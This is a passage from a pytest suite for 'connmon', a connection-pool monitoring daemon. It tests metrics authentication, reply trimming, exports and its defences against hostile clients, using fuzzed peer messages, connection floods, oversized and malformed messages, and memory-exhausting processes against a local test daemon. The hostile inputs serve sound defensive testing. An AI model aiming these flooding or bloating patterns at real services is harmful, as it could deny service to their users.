        # Not on the node's address: on loopback's own 127.0.0.1 only.
        assert http_get(port, "/metrics")[0] == 200
        with pytest.raises(OSError):
            socket.create_connection(("127.0.0.2", port), 5).close()
    finally:
        daemon.stop()
    with open(daemon.config, "a") as config:
        config.write(f"metrics_bind: 127.0.0.2\nmetrics_token_file: {token}\n")
    daemon.start()
    try:
        url = f"http://127.0.0.2:{port}/metrics"
        status = http_get_url(url)
        assert status[0] == 401 and "bearer token" in status[1]
        assert http_get_url(url, "Bearer wrong")[0] == 401
        status, text = http_get_url(url, "Bearer scrape-T0ken")
        assert status == 200 and "# TYPE connmon_connections gauge" in text
    finally:
        daemon.stop()


def http_get_url(url: str, authorization: str = "") -> tuple:
    import urllib.error
    import urllib.request
    request = urllib.request.Request(url, headers={
        "Authorization": authorization} if authorization else {})
    try:
        with urllib.request.urlopen(request, timeout=10) as reply:
            return reply.status, reply.read().decode()
    except urllib.error.HTTPError as err:
        return err.code, err.read().decode()


def test_trust_open_to_the_network_without_secret_says_what_anyone_can_do():
    service = connmon.parse_config(
        "[connmon_service_a]\nname: a\nnodes:\n"
        "    n1 hostname=10.0.0.5:5800\n    n2 hostname=10.0.0.6:5800\n"
        "metrics_port: 9187\nmetrics_bind: 0.0.0.0\n", "test.cfg")["a"]
    node = service.node("n1")
    security = connmon.Security.of_service(service, daemon=True)
    options = connmon_server.DaemonOptions(service, node)
    (listening, metrics) = connmon_server.exposure_warnings(
        service, node, security, options)
    assert listening == (
        "listening on 0.0.0.0:5800 without auth_secret_file: anyone who can "
        "reach this port can read every process's host and program names "
        "and counts, add processes and rows of their own, and clear the "
        "maxima, and, from a node's address, act as that node (see "
        "docs/security.txt)")
    assert metrics == ("serving /metrics on 0.0.0.0:9187 without "
                       "metrics_token_file: anyone who can reach it reads "
                       "the fleet's picture")
    loopback = connmon.Node("n1", ("127.0.0.1", 5800), ("127.0.0.1", 5800))
    options.metrics_bind = "127.0.0.1"
    assert connmon_server.exposure_warnings(service, loopback, security,
                                            options) == []


def test_fuzz_peer_role_and_nested_messages(tmp_path, apps):
    """Hostile input from a peer (one of the service's nodes, from its
    address: on a network without secrets, whoever has that address):
    nested processes, states and updates, maxima rows.  The daemon stays
    up, each bad message costs only the link, and the honest app's
    picture is whole afterwards."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    ports = [free_port(), free_port()]
    config = tmp_path / "fuzz.cfg"
    config.write_text("[connmon_service_test]\nname: test\nnodes:\n"
                      f"    node1 hostname=127.0.0.1:{ports[0]}\n"
                      f"    node2 hostname=127.0.0.1:{ports[1]}\n")
    daemon = Daemon(tmp_path, ports[0], config=config)   # node2 is us
    thrower = Thrower(daemon.port)
    try:
        honest = apps(sqlite_app_url(tmp_path,
                                     f"connmon_addr={daemon.address}"),
                      "honest_fuzz.py")
        honest("hold 2")
        daemon.wait_row("honest_fuzz.py", conn=2, ckout=2)
        *_, peer_lines = hostile_strategies()

        @settings(max_examples=40, deadline=None, database=None,
                  suppress_health_check=list(HealthCheck))
        @given(st.lists(peer_lines, min_size=20, max_size=30))
        def throw(lines):
            thrower.after_hello("peer", lines)
            honest("query 2")

        throw()
        assert thrower.thrown >= 800 and thrower.refused >= 80
        honest("release 1")   # (the queries left a third one pooled)
        daemon.wait_row("honest_fuzz.py", nproc=1, conn=3, ckout=1)
        snapshot = daemon.snapshot()
        assert (snapshot["processes"], snapshot["connections"],
                snapshot["checkouts"]) == (1, 3, 1), snapshot
        text = daemon.log.read_text()
        assert "Traceback" not in text
        assert text.count("cutting the link") < 60
        print(f"peer fuzz: {thrower.thrown} inputs, {thrower.refused} "
              "refused")
    finally:
        daemon.stop()


def fit_rows(count: int) -> List[Dict[str, Any]]:
    """Rows of a snapshot, in the daemon's order: some gone, each with
    different counts."""
    return [{"hostname": f"host{i % 3}", "progname": f"prog-{i}.py",
             "connected": i % 4 != 0, "conn": (i * 7) % 11,
             "ckout": i % 3} for i in range(count)]


def test_snapshot_replies_are_shared_by_consoles_asking_meanwhile():
    """Sixteen consoles asking at once cost two builds, not sixteen (the
    first asker's, and one for all who asked while it was built), and
    none gets a reply begun before it asked; each kind is built apart."""
    builds: List[bool] = []
    first_begun = threading.Event()

    def build(procs: bool) -> bytes:
        builds.append(procs)
        number = len(builds)
        first_begun.set()
        time.sleep(0.2)   # (a build's length: the others ask meanwhile)
        return str(number).encode()

    replies = connmon_server.SharedReplies(build)
    start = threading.Barrier(17)
    got: Dict[int, Tuple[int, int]] = {}   # thread -> (builds before, reply)

    def ask(n: int) -> None:
        start.wait()
        if n:   # (the first asks alone, the others while it builds)
            assert first_begun.wait(10)
        before = len(builds)
        got[n] = before, int(replies.get(False))

    threads = [threading.Thread(target=ask, args=(n,)) for n in range(16)]
    for thread in threads:
        thread.start()
    start.wait()
    for thread in threads:
        thread.join(30)
    assert len(got) == 16
    assert all(reply > before for before, reply in got.values()), got
    assert len(builds) <= 3   # (2, unless the box held a thread back)
    assert int(replies.get(True)) == len(builds) and builds[-1] is True
    assert replies.done[False][1] == b""   # (kept only while wanted)


def test_fit_reply_under_the_limit_is_the_message_itself():
    message = {"op": "snapshot", "rows": fit_rows(5)}
    reply = connmon_server.fit_reply(message, 1 << 20)
    assert json.loads(reply) == message and reply.endswith(b"\n")


@pytest.mark.parametrize("limit", [600, 1500, 3000])
def test_fit_reply_leaves_out_the_largest_rows_first(limit):
    """When not even rows without their lists all fit, whole rows go: gone
    before live, then the largest (with their programs' lines), never by
    what a row says of its own counts."""
    rows = fit_rows(40)
    for row in rows[::5]:   # claims that must not buy a place
        row["conn"], row["progname"] = 5000, row["progname"] + "x" * 40
    message = {"op": "snapshot", "service": "test", "rows": rows,
               "databases": [{"server": "db1", "programs": [
                   {"hostname": row["hostname"], "progname": row["progname"],
                    "conn": row["conn"]} for row in rows]}]}
    reply = connmon_server.fit_reply(message, limit)
    assert len(reply) <= limit and reply.endswith(b"\n")
    trimmed = json.loads(reply)
    kept = trimmed["rows"]
    assert 0 < len(kept) < len(rows)
    assert trimmed["trimmed"] == len(rows) - len(kept)
    # As many as fit: one more row would not have.
    assert len(connmon_server.fit_reply(message, len(reply))) == len(reply)

    def rank(row: dict) -> tuple:
        return not row["connected"], len(json.dumps(row))
    worst_kept = max(rank(row) for row in kept)
    assert all(rank(row) >= worst_kept for row in rows if row not in kept)
    assert kept == [row for row in rows if row in kept]   # order kept
    names = {(row["hostname"], row["progname"]) for row in kept}
    (server,) = trimmed["databases"]
    assert {(p["hostname"], p["progname"])
            for p in server["programs"]} == names
    assert trimmed["service"] == "test"


def test_fit_reply_trims_a_large_row_not_its_neighbours():
    """A row made large by its processes (what a client can inflate) is
    cut to its share, keeping its smallest processes, marked, with the
    count of what it left out; the other rows are sent whole."""
    rows = fit_rows(10)
    fat = rows[3]
    fat["procs"] = [{"pid": pid, "pools": [{"pool": pool, "endpoint": "x"
                                            * (200 if pid % 2 else 1)}
                                           for pool in range(20)]}
                    for pid in range(30)]
    message = {"op": "snapshot", "rows": rows}
    whole = len(json.dumps(message))
    reply = json.loads(connmon_server.fit_reply(message, whole // 4))
    assert reply["trimmed"] == 0
    assert [row for row in reply["rows"] if row is not None
            and row["progname"] != fat["progname"]] == [
        row for row in rows if row is not fat]
    (cut,) = [row for row in reply["rows"]
              if row["progname"] == fat["progname"]]
    assert cut["trimmed"] is True
    assert 0 < len(cut["procs"]) < 30
    assert len(cut["procs"]) + cut["procs_more"] == 30
    assert set(range(0, 30, 2)) <= {proc["pid"] for proc in cut["procs"]}


def test_fit_reply_refuses_a_limit_not_even_the_header_fits():
    with pytest.raises(connmon.ProtocolError, match="without rows"):
        connmon_server.fit_reply({"op": "snapshot", "service": "x" * 100,
                                  "rows": fit_rows(3)}, 50)


POOL_EVENTS = st.lists(st.tuples(
    st.sampled_from([connmon.CONNECT, CHECKOUT, CHECKIN, connmon.CLOSE,
                     connmon.POOL, connmon.ENGINE_GONE,
                     connmon.INVALIDATED]),
    st.integers(0, 7),              # connection
    st.integers(0, 2),              # pool (of POOL and ENGINE_GONE)
    st.one_of(st.none(), st.integers(1, 20))),   # a pool's limit
    max_size=25)


def play_pool_events(listeners: PoolListeners, drawn: List[tuple],
                     start: float) -> None:
    """The events of ``drawn``, a millisecond apart, through the
    listeners; connection N belongs to pool N % 3, as a connection stays
    in the pool that opened it."""
    for n, (kind, ident, pool, limit) in enumerate(drawn):
        when = start + n / 1000
        if kind == connmon.POOL:
            listeners(kind, pool, when, limit)
        elif kind == connmon.ENGINE_GONE:
            listeners(kind, pool, when)
        elif kind in (connmon.CONNECT, CHECKOUT, connmon.INVALIDATED):
            listeners(kind, ident, when, ident % 3)
        else:
            listeners(kind, ident, when)


@hypothesis.settings(max_examples=100, deadline=None)
@hypothesis.given(batches=st.lists(POOL_EVENTS, min_size=1, max_size=4))
def test_process_state_message_update_round_trip(batches):
    """An application's state, folded from any pool events and sent a
    batch at a time (the first message whole, then what changed), gives
    the daemon's state the same connections, checkouts (and since when)
    and pools, and the daemon reads each message's checkout count."""
    app = connmon.ProcessState("i", "host", "prog.py", 42)
    daemon_side = connmon.ProcessState("i", "host", "prog.py", 42)
    sent: Optional[connmon.ProcessState] = None
    listeners = PoolListeners(app)
    now = 1000.0
    for drawn in batches:
        play_pool_events(listeners, drawn, now)
        now += 1.0
        message = app.message(now, sent)
        change = connmon.Update(json.loads(json.dumps(message)))
        assert change.checkouts == app.checkouts
        assert daemon_side.apply(change, now) == 0   # no unknown event
        sent = app.copy()
        app.reset_counters()
        assert daemon_side.conns == app.conns
        assert daemon_side.checked_out.keys() == app.checked_out.keys()
        for ident, since in app.checked_out.items():
            assert abs(daemon_side.checked_out[ident] - since) < 1e-5
        assert daemon_side.pools == app.pools


def fat_update(pools: int) -> dict:
    """An update announcing ``pools`` pools, each on a database whose every
    name is as long as allowed: a process as large as a client can make
    its own part of a reply."""
    name = "d" * connmon.MAX_NAME
    return empty_update(pools=[
        [pool, 1, {"backend": "mysql", "host": f"{pool:04d}" + name[4:],
                   "port": 3306, "database": name, "user": name}]
        for pool in range(pools)])


def test_trust_fat_rows_cannot_push_an_honest_row_out(tmp_path, apps):
    """Hostile processes that claim many connections and announce many
    pools make their own rows large, in rows of their own and all in one
    row: the reply is trimmed fairly, so the honest row and its process
    are in it whole, the fat rows are marked and say what they left out,
    and every list inside a row is bounded."""
    daemon = SmallReplyDaemon(tmp_path)
    daemon.limit = 1_000_000
    daemon.stop()
    daemon.start()
    hostile = []
    try:
        honest = app_holding(apps, tmp_path, [daemon], "nova-api", 2)
        for n in range(40):   # rows of their own, claiming the most
            sock, rfile = app_attached(daemon.port, f"bloat-{n}",
                                       f"bloat{n:02d}", 500)
            assert pong_after(sock, rfile, fat_update(40)) == {"op": "pong"}
            hostile.append(sock)
        for n in range(36):   # all in one row
            sock, rfile = app_attached(daemon.port, f"fat-{n}", "fat", 100)
            assert pong_after(sock, rfile, fat_update(40)) == {"op": "pong"}
            hostile.append(sock)
        wait_until(lambda: daemon.snapshot()["processes"] == 77, 30,
                   "every hostile process attached")
        reply = daemon.snapshot(procs=True)
        assert reply["trimmed"] == 0, reply["trimmed"]   # no row left out
        rows = {row["progname"]: row for row in reply["rows"]}
        assert len(rows) == 42
        nova = rows["nova-api"]
        assert "trimmed" not in nova and nova["conn"] == 2
        (proc,) = nova["procs"]
        assert proc["conn"] == 2 and proc["pools"]
        fat = rows["fat"]
        assert fat["trimmed"] and fat["procs_more"] > 0
        assert len(fat["procs"]) + fat["procs_more"] == 36
        for proc in fat["procs"] + rows["bloat00"]["procs"]:
            assert len(proc["pools"]) == connmon_server.TOP_POOLS
            assert proc["pools_more"] == 40 - connmon_server.TOP_POOLS
        table = console("-H", daemon.address)
        assert table.returncode == 0, table.stderr
        assert "nova-api" in table.stdout
        table = subprocess.run(   # the console names the rows cut
            [sys.executable, "-m", "connmon_console", "--once", "--procs",
             "--wide", "-H", daemon.address], cwd=HERE, env=CHILD_ENV,
            capture_output=True, text=True, timeout=30)
        assert table.returncode == 0, table.stderr
        (said,) = [line for line in table.stdout.splitlines()
                   if line.startswith("TRIMMED: ")]
        assert said.startswith("TRIMMED: lists cut in ") and "fat" in said
        honest("release 1")
        daemon.wait_row("nova-api", nproc=1, conn=2, ckout=1)
    finally:
        for sock in hostile:
            sock.close()
        daemon.stop()


def test_trust_one_address_takes_at_most_its_share(tmp_path, apps):
    """Anyone who can say an app's hello (every app host holds the apps'
    secret) from one address gets at most max_clients_per_address
    connections, by default a quarter of max_clients: the honest apps
    elsewhere still get in, and the refusal is one line naming why."""
    daemon = Daemon(tmp_path, extra_config="max_clients: 8\n")
    try:
        taken = []
        for n in range(2):
            taken.append(app_attached(daemon.port, f"flood-{n}", "flood.py",
                                      source="127.0.0.5")[0])
        assert refusal(daemon.port, "app", source="127.0.0.5",
                       **proc_fields("flood-2", "flood.py")) == (
            "too many app connections from 127.0.0.5 "
            "(max_clients_per_address is 2)")
        honest = apps(sqlite_app_url(tmp_path,
                                     f"connmon_addr={daemon.address}"),
                      "honest.py")
        honest("hold 1")
        daemon.wait_row("honest.py", nproc=1, conn=1, ckout=1)
        taken.pop().close()   # a place freed is a place again
        wait_until(lambda: daemon.row("flood.py")["nproc"] == 1, 10,
                   "the flood's second connection gone")
        taken.append(app_attached(daemon.port, "flood-3", "flood.py",
                                  source="127.0.0.5")[0])
        assert "too many app connections from 127.0.0.5" in (
            daemon.log.read_text())
    finally:
        for sock in taken:
            sock.close()
        daemon.stop()


def test_trust_console_secret_must_be_its_own_and_files_private(tmp_path):
    apps_secret = secret_file(tmp_path, "apps")
    peers = secret_file(tmp_path, "peers", "another-Secret-for-nodes")
    for console_secret, named in ((apps_secret, "auth_secret"),
                                  (peers, "peer_secret")):
        result = run_connmond("--check-config", "-c", write(tmp_path, f"""
[connmon_service_default]
name: default
nodes:
    node1 hostname=localhost:{free_port()} bind=127.0.0.1
auth_secret_file: {apps_secret}
peer_secret_file: {peers}
console_secret_file: {console_secret}
"""))
        assert result.returncode == 2, result
        assert f"console_secret must differ from {named}" in result.stderr
    loose = secret_file(tmp_path, "loose", "a-secret-others-may-read")
    pathlib.Path(loose).chmod(0o644)
    config = write(tmp_path, f"""
[connmon_service_default]
name: default
nodes:
    node1 hostname=localhost:{free_port()} bind=127.0.0.1
auth_secret_file: {loose}
""")
    result = run_connmond("--check-config", "-c", config)
    assert result.returncode == 0, result
    assert (f"connmond: warning: {config}: [connmon_service_default] "
            f"auth_secret_file {loose} may be read by others (mode 644); "
            "chmod 600 it") in result.stderr
    daemon = Daemon(tmp_path, extra_config=f"auth_secret_file: {loose}\n")
    try:   # (said at start, just after connmond listens)
        wait_until(lambda: f"auth_secret_file {loose} may be read by "
                   "others" in daemon.log.read_text(), 10,
                   "the warning at start")
    finally:
        daemon.stop()


def test_trust_client_memory_has_a_ceiling(tmp_path, apps):
    """Past max_client_memory of reckoned client state, new apps are
    refused with a clear message; the apps attached keep working, and a
    place is free again once the state shrinks."""
    daemon = Daemon(tmp_path, extra_config="max_client_memory: 16\n")
    hostile = []
    try:
        honest = app_holding(apps, tmp_path, [daemon], "honest.py", 1)
        for n in range(20):
            sock, rfile, answer = say_hello(daemon.port, "app",
                                            **proc_fields(f"big-{n}",
                                                          "big.py"))
            sock.close()
            if answer["op"] == "error":
                break
            hostile.append(hostile_at_caps(daemon.port, n)[0])
        assert 3 <= len(hostile) < 20
        assert answer["error"].startswith("connmond holds ")
        assert answer["error"].endswith(
            " MB of its clients' state already (max_client_memory is 16);"
            " the apps attached carry on, new ones wait")
        honest("hold 2")   # the attached app goes on being followed
        daemon.wait_row("honest.py", nproc=1, conn=3, ckout=3)
        hostile.pop().close()
        wait_until(lambda: say_hello(daemon.port, "app", **proc_fields(
            "small", "small.py"))[2] == {"op": "ready"}, 15,
            "room for a new app once one has left")
    finally:
        for sock in hostile:
            sock.close()
        daemon.stop()


def counters_only(**fields: Any) -> Dict[str, Any]:
    """An update as the plugin sends it when checkouts came and went
    within it: no connection, checkout or pool changes, counters only."""
    return {"op": "update", "connect": [], "close": [], "checkout": [],
            "checkin": [], "checkouts": 5, "hold": [0.05, 5],
            "peak": [2, 2], **fields}


def test_counters_of_the_first_state_are_counted(daemon):
    """A process that checked out before it could reach connmond sends
    those counts in its first "state": they count like an update's."""
    sock, rfile, answer = say_hello(daemon.port, "app", **proc_fields(
        "early", "early.py"))
    with sock:
        assert answer == {"op": "ready"}, answer
        sock.sendall(connmon.encode(state_message(
            2, 1, checkouts=1000, hold=[2.5, 999])))
        row = daemon.wait_row("early.py", nproc=1, conn=2, ckout=1,
                              ckout_total=1000)
        assert row["holds_total"] == 999


def test_counters_only_update_changes_only_the_counters(daemon):
    app = SyntheticApp(daemon, "fast-host", "fast.py")
    for conn in (1, 2):
        app.event(connmon.CONNECT, conn, pool=7)
    app.event(CHECKOUT, 1, pool=7)
    app.state.fold([(connmon.POOL, 7, 0.0, 5, None, None)])
    app.send()
    before = daemon.wait_row("fast.py", procs=True, conn=2, ckout=1)
    assert not connmon.Update(counters_only()).moves
    app.conn.send(counters_only(waits=[0.02, 5, 0.01], timeouts=1))
    after = daemon.wait_row("fast.py", procs=True, timeouts_total=1,
                            ckout_total=before["ckout_total"] + 5)
    assert (after["conn"], after["ckout"], after["limit"]) == (2, 1, 5)
    assert [p["pools"] for p in after["procs"]] == [
        p["pools"] for p in before["procs"]]
    assert after["maxckout"] == 2   # the burst inside the update counts
    assert after["wait_seconds_total"] == 0.02


@pytest.mark.parametrize("fields, error", [
    ({"checkouts": -1}, "update needs 'checkouts'"),
    ({"hold": [0.1]}, "update needs 'checkouts'"),
    ({"waits": "lots"}, "'waits' must be [seconds, count, seconds]"),
    ({"timeouts": 1.5}, "'waits' must be [seconds, count, seconds]"),
    ({"checkin": {}}, "'checkin' must be a list of integers"),
    ({"checkout": None}, "'checkout' must be a list of [id, value] pairs"),
])
def test_malformed_counters_only_update_is_refused_clearly(daemon, fields,
                                                           error):
    app = SyntheticApp(daemon, "bad-host", "bad.py")
    honest = SyntheticApp(daemon, "good-host", "good.py")
    app.event(connmon.CONNECT, 1, pool=7)
    app.send()
    daemon.wait_row("bad.py", conn=1)
    app.conn.send(counters_only(**fields))
    reply = connmon.read_message(app.conn.rfile)
    assert reply["op"] == "error" and error in reply["error"], reply
    assert app.conn.rfile.readline() == b""   # and the daemon hung up
    honest.event(connmon.CONNECT, 1, pool=7)
    honest.send()
    daemon.wait_row("good.py", conn=1)
    wait_until(lambda: error in daemon.log.read_text(), 10, "the log line")


def test_messages_sent_with_the_state_are_all_applied(daemon):
    """What an app sends in the same write as its first state (read with
    the state, while it is greeted) is applied, in order, before the pong
    that follows it."""
    sock, rfile, answer = say_hello(daemon.port, "app", **proc_fields(
        "eager-1", "eager.py"))
    with sock:
        assert answer == {"op": "ready"}
        sock.sendall(connmon.encode(state_message(3, 1))
                     + connmon.encode(empty_update(checkout=[[1, 0.5]]))
                     + connmon.encode(counters_only())
                     + connmon.encode({"op": "ping"}))
        assert connmon.read_message(rfile) == {"op": "pong"}
        row = daemon.row("eager.py")
        assert (row["nproc"], row["conn"], row["ckout"],
                row["ckout_total"]) == (1, 3, 2, 5)


@pytest.mark.parametrize("line, error", [
    (b"this is not JSON\n", "not JSON"),
    (connmon.encode({"op": "snapshot"}), "may not send 'snapshot'"),
    (connmon.encode(empty_update(hold=[0, "lots"])), "update needs"),
    (connmon.encode(empty_update(connect=[[n, 1] for n in range(5001)])),
     "more than 5000 connections in one process"),
    (b" " * (connmon.MAX_MESSAGE_BYTES + 1) + b"\n", "message longer than"),
], ids=["garbage", "op", "field", "cap", "long"])
def test_bad_input_on_an_app_stream_is_refused_clearly(daemon, line, error):
    """Bad input from an app whose stream the reader serves: the clear
    error, a closed connection, its process gone; the messages before it
    applied; another app on the same reader carries on."""
    other, other_rfile = app_attached(daemon.port, "steady-1", "steady.py",
                                      conns=2)
    sock, rfile = app_attached(daemon.port, "bad-1", "bad.py", conns=1)
    try:
        assert pong_after(sock, rfile, counters_only()) == {"op": "pong"}
        sock.sendall(connmon.encode(counters_only()) + line
                     + connmon.encode(counters_only()))
        reply = connmon.read_message(rfile)
        assert reply["op"] == "error" and error in reply["error"], reply
        assert rfile.read() == b""
        daemon.wait_row("bad.py", nproc=0, conn=0, ckout_total=10)
        wait_until(lambda: error in daemon.log.read_text(), 10,
                   "the log line")
        assert pong_after(other, other_rfile, counters_only()) == {
            "op": "pong"}
        daemon.wait_row("steady.py", nproc=1, conn=2, ckout_total=5)
        assert "Traceback" not in daemon.log.read_text()
    finally:
        sock.close()
        other.close()


def test_silent_app_is_cut_at_the_heartbeat_talking_one_kept(tmp_path):
    """The reader ends an app connection silent for heartbeat_timeout (its
    process leaves, the log says why, the socket is closed), while an app
    that talks stays attached."""
    daemon = Daemon(tmp_path, extra_config="heartbeat_timeout: 1\n")
    silent, silent_rfile = app_attached(daemon.port, "mute-1", "mute.py",
                                        conns=1)
    talker, talker_rfile = app_attached(daemon.port, "chat-1", "chat.py",
                                        conns=1)
    try:
        daemon.wait_row("mute.py", nproc=1, conn=1)

        def mute_gone() -> bool:
            assert pong_after(talker, talker_rfile) == {"op": "pong"}
            return counts(daemon, "mute.py") == (0, 0, 0)
        wait_until(mute_gone, 20, "the silent app cut")
        assert silent_rfile.read() == b""
        assert "silent for 1s (heartbeat_timeout)" in daemon.log.read_text()
        assert counts(daemon, "chat.py") == (1, 1, 1)
    finally:
        silent.close()
        talker.close()
        daemon.stop()


def test_app_over_tls_streams_through_the_reader(tmp_path):
    """An app over TLS, its stream served by the reader: many messages in
    one write (more than one TLS record, so some wait decrypted in the TLS
    layer) are all applied, pings answered; bad input gets the error."""
    ca = CertificateAuthority(tmp_path, "ca")
    certfile, keyfile = ca.issue("server", "127.0.0.1")
    daemon = SecureDaemon(tmp_path, extra_config=(
        f"ssl_certfile: {certfile}\nssl_keyfile: {keyfile}\n"
        f"ssl_cafile: {ca.cafile}\n"))
    try:
        config = client_config(tmp_path, daemon, "tls-app.cfg",
                               f"ssl_cafile: {ca.cafile}\n")
        security = connmon.Security.of_service(
            connmon.find_service("test", config))
        proc = connmon.ProcessState("tls-1", "tls-host", "tls.py", 7, 1)
        conn = connmon.open_connection([("127.0.0.1", daemon.port)], "app",
                                       security=security,
                                       proc=proc.describe())
        try:
            assert conn.sock.version() is not None   # (TLS)
            conn.sock.sendall(connmon.encode(state_message(2, 1)) + b"".join(
                connmon.encode(counters_only()) for _ in range(2000)))
            conn.send({"op": "ping"})
            assert connmon.read_message(conn.rfile) == {"op": "pong"}
            row = daemon.row("tls.py")
            assert (row["nproc"], row["conn"], row["ckout"],
                    row["ckout_total"]) == (1, 2, 1, 10000)
            conn.send({"op": "nonsense"})
            reply = connmon.read_message(conn.rfile)
            assert reply["op"] == "error" and "may not send" in reply[
                "error"]
            daemon.wait_row("tls.py", nproc=0)
        finally:
            conn.close()
    finally:
        daemon.stop()


def test_departure_storm_leaves_the_picture_and_the_daemon_serving(daemon):
    """Hundreds of apps hang up at once: all leave the picture, each says
    so in the log, and the daemon greets and serves a new app
    afterwards."""
    size = 300
    socks = [app_attached(daemon.port, f"storm-{n}", "storm.py",
                          conns=1)[0] for n in range(size)]
    daemon.wait_row("storm.py", nproc=size, conn=size, timeout=60)
    for sock in socks:
        sock.close()
    daemon.wait_row("storm.py", nproc=0, conn=0, timeout=60)
    text = daemon.log.read_text()
    assert text.count("app storm.py[666] on attacker-host") == 2 * size
    sock, rfile = app_attached(daemon.port, "after-1", "after.py", conns=1)
    with sock:
        assert pong_after(sock, rfile, counters_only()) == {"op": "pong"}
        daemon.wait_row("after.py", nproc=1, conn=1, ckout_total=5)


def test_a_cloud_reconnecting_at_once_is_greeted_and_attached(daemon):
    """More apps than the door's waiting room (MAX_WAITING) connect in the
    same instant from many hosts, as after a restart of connmond, and
    none answers before all have connected and a moment more (busy
    hosts): then each says its hello once welcomed and its state once
    ready, as the plugin does, and each attaches; none is refused or let
    go (the door counts a connection in only as the reader greets it, and
    while its room is full lets none go before its HELLO_GRACE)."""
    import resource
    import selectors
    size, hosts = connmon_server.MAX_WAITING + 576, 32   # 50 from a host
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE,
                       (max(soft, min(hard, 2 * size + 256)), hard))
    selector = selectors.DefaultSelector()
    answers: Dict[int, List[bytes]] = {}
    socks: List[socket.socket] = []
    try:
        for n in range(size):
            sock = socket.socket()
            socks.append(sock)
            sock.setblocking(False)
            sock.bind((f"127.0.2.{n % hosts + 1}", 0))
            sock.connect_ex((daemon.host, daemon.port))
            selector.register(sock, selectors.EVENT_READ, n)
            answers[n] = []
        time.sleep(connmon_server.HELLO_GRACE / 4)
        hello = {"op": "hello", "version": 1, "role": "app"}
        deadline = time.monotonic() + 120
        while selector.get_map() and time.monotonic() < deadline:
            for key, _ in selector.select(1.0):
                n, sock = key.data, key.fileobj
                data = sock.recv(65536)
                lines = answers[n]
                lines.extend(data.splitlines() if data else [b"(closed)"])
                if not data or any(b'"error"' in line for line in lines):
                    selector.unregister(sock)
                elif len(lines) == 1:   # welcomed: the hello
                    sock.sendall(connmon.encode({**hello, **proc_fields(
                        f"cloud-{n}", "cloud.py")}))
                elif len(lines) == 2:   # ready: the state, its last word
                    sock.sendall(connmon.encode(state_message(1)))
                    selector.unregister(sock)
        got = collections.Counter(repr([
            json.loads(line).get("error", json.loads(line)["op"])
            if line.startswith(b"{") else line for line in lines])
            for lines in answers.values())
        assert got == {"['welcome', 'ready']": size}
        daemon.wait_row("cloud.py", nproc=size, conn=size, timeout=60)
        assert "refused" not in daemon.log.read_text()
    finally:
        for sock in socks:
            sock.close()


# ===========================================================================
# Exports (Prometheus, CSV, logging)
#
# What leaves the daemon for other tools: the Prometheus text, equal to the
# snapshot whatever the labels; the CSV dump (changed rows, restarts, no
# formula cells, trouble as one log line); the config's logging sections.
# ===========================================================================


def test_metrics_equal_the_snapshot_with_awkward_labels(tmp_path, apps):
    port = free_port()
    daemon = Daemon(tmp_path, extra_config=f"metrics_port: {port}\n"
                    "metrics_bind: 127.0.0.1\n")
    try:
        app = apps(f"sqlite:///{tmp_path}/m.sqlite?plugin=connmon"
                   f"&connmon_addr={daemon.address}", "metrics_app.py")
        app("hold 2")
        app("query 3")
        # The queries need a third connection; it stays pooled.
        daemon.wait_row("metrics_app.py", conn=3, ckout=2, ckout_total=5)

        hostname = 'rack "7"\\db\\api'   # a double quote and backslashes
        synthetic = SyntheticApp(daemon, hostname, 'nova-"api"')
        for conn in (1, 2):
            synthetic.event(connmon.CONNECT, conn, 1)
        synthetic.event(CHECKOUT, 1, 1)
        synthetic.send()
        for _ in range(3):
            synthetic.event(CHECKOUT, 2, 1)
            synthetic.event(CHECKIN, 2)
        synthetic.send()
        daemon.wait_row('nova-"api"', conn=2, ckout=1, ckout_total=4)

        def scraped_as_snapshot() -> Optional[tuple]:
            """A scrape equal to the snapshot read just before it (the
            rates of the last second may move between the two reads)."""
            snapshot = daemon.snapshot()
            status, headers, text = http_get(port, "/metrics")
            if metric_samples(text) == expected_samples(snapshot):
                return status, headers, text
            return None
        status, headers, text = wait_until(scraped_as_snapshot,
                                           what="/metrics as the snapshot")
        assert status == 200
        assert headers["Content-Type"] == (
            "text/plain; version=0.0.4; charset=utf-8")
        assert r'hostname="rack \"7\"\\db\\api"' in text
        samples = metric_samples(text)
        host = socket.gethostname()
        for name, value in [("connmon_connections", 3),
                            ("connmon_checked_out_connections", 2),
                            ("connmon_processes", 1),
                            ("connmon_checkouts_total", 5),
                            ("connmon_connected", 1)]:
            assert samples[(name, host, "metrics_app.py")] == value
        for name, value in [("connmon_connections", 2),
                            ("connmon_checked_out_connections", 1),
                            ("connmon_max_connections", 2),
                            ("connmon_checkouts_total", 4)]:
            assert samples[(name, hostname, 'nova-"api"')] == value

        synthetic.conn.close()   # the row stays, disconnected
        daemon.wait_row('nova-"api"', connected=False, conn=0)
        samples = metric_samples(http_get(port, "/metrics")[2])
        assert samples[("connmon_connected", hostname, 'nova-"api"')] == 0
        assert samples[("connmon_checkouts_total", hostname,
                        'nova-"api"')] == 4

        assert http_get(port, "/healthz")[:3:2] == (200, "ok\n")
        assert http_get(port, "/nothing")[0] == 404
    finally:
        daemon.stop()


def test_metrics_text_escapes_newlines_and_skips_nulls():
    from prometheus_client.parser import text_string_to_metric_families
    row = {"hostname": "two\nlines", "progname": 'a\\"b', "connected": True,
           "nproc": 1, "conn": 3, "ckout": 0, "maxnproc": 1, "maxconn": 4,
           "maxckout": 2, "ckout_total": 9, "limit": None, "oldest": 1.5}
    text = connmon_server.render_metrics({"rows": [row]})
    assert "\ntwo" not in text and r'hostname="two\nlines"' in text
    families = {f.name: f for f in text_string_to_metric_families(text)}
    assert families["connmon_pool_limit_connections"].samples == []
    (oldest,) = families["connmon_oldest_checkout_age_seconds"].samples
    assert oldest.labels == {"hostname": "two\nlines", "progname": 'a\\"b'}
    assert oldest.value == 1.5
    assert families["connmon_checkouts"].type == "counter"


def test_csv_dump_appends_changed_rows_and_survives_restart(tmp_path, apps):
    out = tmp_path / "connmon.csv"
    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
                    "csv_interval: 0.2\ncsv_token: run-1\n")
    try:
        url = (f"sqlite:///{tmp_path}/c.sqlite?plugin=connmon"
               f"&connmon_addr={daemon.address}")
        one = apps(url, "one.py")
        one("hold 2")

        def rows_where(progname: str, **values: str):
            return [row for row in (csv_rows(out) if out.exists() else [])
                    if row["progname"] == progname and
                    all(row[k] == v for k, v in values.items())]
        wait_until(lambda: rows_where("one.py", conn="2", ckout="2"),
                   what="a CSV row of one.py with 2 connections")
        header = out.read_text().splitlines()[0]
